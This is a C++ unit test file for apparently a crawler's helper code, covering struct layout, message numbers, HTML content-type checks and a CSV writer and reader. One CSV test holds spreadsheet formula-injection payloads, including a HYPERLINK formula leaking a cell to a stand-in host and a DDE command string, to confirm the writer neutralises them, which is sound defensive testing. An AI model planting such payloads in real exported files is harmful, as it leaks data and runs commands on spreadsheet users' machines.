#include "common/CsvReader.h"
#include "common/CsvWriter.h"
#include "common/MediaType.h"
#include "common/Messages.h"
#include "common/TObjectType.h"
#include "common/TTag.h"

#include <gtest/gtest.h>

#include <cstring>
#include <sstream>

namespace {

// Packed fields may not be bound to references; their offsets are read as
// byte distances instead.
#define OffsetOf(r, field)                                                                        \
    (reinterpret_cast<const char*>(&(r).field) - reinterpret_cast<const char*>(&(r)))

TEST(ObjectType, FieldsArePackedInOrder) {
    _TObjectType r;
    const std::ptrdiff_t s = sizeof(std::string);
    EXPECT_EQ(OffsetOf(r, Url), 0);
    EXPECT_EQ(OffsetOf(r, ContentType), s);
    EXPECT_EQ(OffsetOf(r, Kind), 2 * s);
    EXPECT_EQ(OffsetOf(r, Size), 2 * s + 2);
    EXPECT_EQ(OffsetOf(r, Visited), 2 * s + 6);
    EXPECT_EQ(OffsetOf(r, Count), 2 * s + 7);
    EXPECT_EQ(OffsetOf(r, Status), 2 * s + 11);
    EXPECT_EQ(OffsetOf(r, Depth), 2 * s + 15);
    EXPECT_EQ(OffsetOf(r, Id), 2 * s + 19);
}

TEST(Messages, NumbersFollowWmUser) {
    const std::pair<unsigned, unsigned> table[] = {
        {WM_PARSE_START, 1025},     {WM_PARSER_END, 1026},      {WM_NAVIGATION_START, 1027},
        {WM_NAVIGATION_END, 1028},  {WM_DOWNLOAD_START, 1029},  {WM_DOWNLOAD_END, 1030},
        {WM_DOWNLOAD_OPENED, 1031}, {WM_DOWNLOAD_FAILED, 1035}, {WM_DATA_MOVE_START, 1036},
        {WM_DATA_MOVE_END, 1037},
    };
    for (auto [name, number] : table)
        EXPECT_EQ(name, number);
}

TEST(Tag, FreesLongAttributeListsWithoutRecursion) {
    auto tag = std::make_unique<_TTag>();
    _TAttribute** tail = &tag->Attributes;
    for (int i = 0; i < 200000; ++i) {
        *tail = new _TAttribute;
        (*tail)->Name.reset(new char[2]{'a', 0});
        tail = &(*tail)->Next;
    }
    tag.reset(); // a recursive free would overflow the stack here
    SUCCEED();
}

TEST(MediaType, HtmlTest) {
    const std::pair<const char*, bool> table[] = {
        {"text/html", true},
        {"TEXT/HTML", true},
        {"Text/Html; charset=UTF-8", true},
        {"text/html;charset=euc-kr", true},
        {" text/html ", true},
        {"text/html ; q=1", true},
        {"", false},
        {"text/plain", false},
        {"text/htmlx", false},
        {"text/htm", false},
        {"image/gif", false},
        {"application/xhtml+xml", false},
        {"text/ html", false},
    };
    for (auto [type, html] : table) {
        SCOPED_TRACE(type);
        EXPECT_EQ(IsHtmlContentType(type), html);
    }
}

TEST(Csv, QuotesOnlyWhatNeedsItAndReadsBackWhatItWrote) {
    const std::vector<std::vector<std::string>> rows{
        {"Id", "URI"},
        {"1", "http://h/a,b"},
        {"2", "say \"hi\""},
        {"3", "line\nbreak"},
        {"", "\xb0\xa1"}, // bytes pass through untouched
        // Text a spreadsheet would run as a formula is kept as text; numbers stay numbers.
        {"-1", "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"},
        {"+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\tx", "\rx", "a=b", "-"},
    };
    std::ostringstream out;
    CsvWriter csv(out);
    for (const auto& row : rows)
        csv.WriteRow(row);
    EXPECT_EQ(out.str(), "Id,URI\r\n"
                         "1,\"http://h/a,b\"\r\n"
                         "2,\"say \"\"hi\"\"\"\r\n"
                         "3,\"line\nbreak\"\r\n"
                         ",\xb0\xa1\r\n"
                         "-1,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\"\r\n"
                         "'+cmd|' /C calc'!A0,'@SUM(1+1),'-2+3,'\tx,\"'\rx\",a=b,'-\r\n");

    std::vector<CsvReader::TRow> read;
    ASSERT_TRUE(CsvReader::Parse(out.str(), read));
    for (auto& row : read)
        for (std::string& cell : row)
            cell = CsvReader::PlainCell(cell);
    EXPECT_EQ(read, rows);
}

TEST(Csv, ReadsWhatItCanAndRefusesWhatIsNoCsv) {
    const struct {
        std::string_view Text;
        bool Ok;
        std::vector<CsvReader::TRow> Rows;
    } table[] = {
        {"", true, {}},
        {"a,b\nc,\n", true, {{"a", "b"}, {"c", ""}}}, // LF alone, an empty last cell
        {"\"\",'x,'=1", true, {{"", "'x", "'=1"}}},   // kept as written: PlainCell's to do
        {"\"open,\r\n", false, {}},
        {"a\"b", false, {}},
        {"\"a\"b", false, {}},
        {"a\rb", false, {}},
    };
    for (const auto& row : table) {
        SCOPED_TRACE(row.Text);
        std::vector<CsvReader::TRow> rows;
        EXPECT_EQ(CsvReader::Parse(row.Text, rows), row.Ok);
        if (row.Ok) {
            EXPECT_EQ(rows, row.Rows);
        }
    }
    EXPECT_EQ(CsvReader::PlainCell("'x"), "'x");
    EXPECT_EQ(CsvReader::PlainCell("'-1"), "'-1");
    EXPECT_EQ(CsvReader::PlainCell("'-x"), "-x");
}

} // namespace
